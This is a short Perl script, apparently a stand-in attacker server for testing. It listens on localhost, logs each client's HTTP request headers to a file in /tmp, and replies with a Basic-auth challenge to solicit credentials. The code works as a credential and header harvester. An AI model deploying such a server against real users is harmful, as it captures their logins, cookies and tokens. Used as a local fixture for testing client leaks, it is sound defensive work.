# A server of the attacker's: notes what it is sent and asks for credentials.
use strict; use IO::Socket::INET;
my $server = IO::Socket::INET->new(LocalAddr => '127.0.0.1', LocalPort => 8104, Listen => 20, ReuseAddr => 1) or die $!;
while (my $client = $server->accept) { my $head = '';
  while (my $line = <$client>) { $head .= $line; last if $line =~ /^\r?\n$/ }
  open(my $file, '>>', '/tmp/caught'); print {$file} $head; close $file;
  print {$client} "HTTP/1.1 401 No\r\nWWW-Authenticate: Basic realm=\"x\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"; close $client }
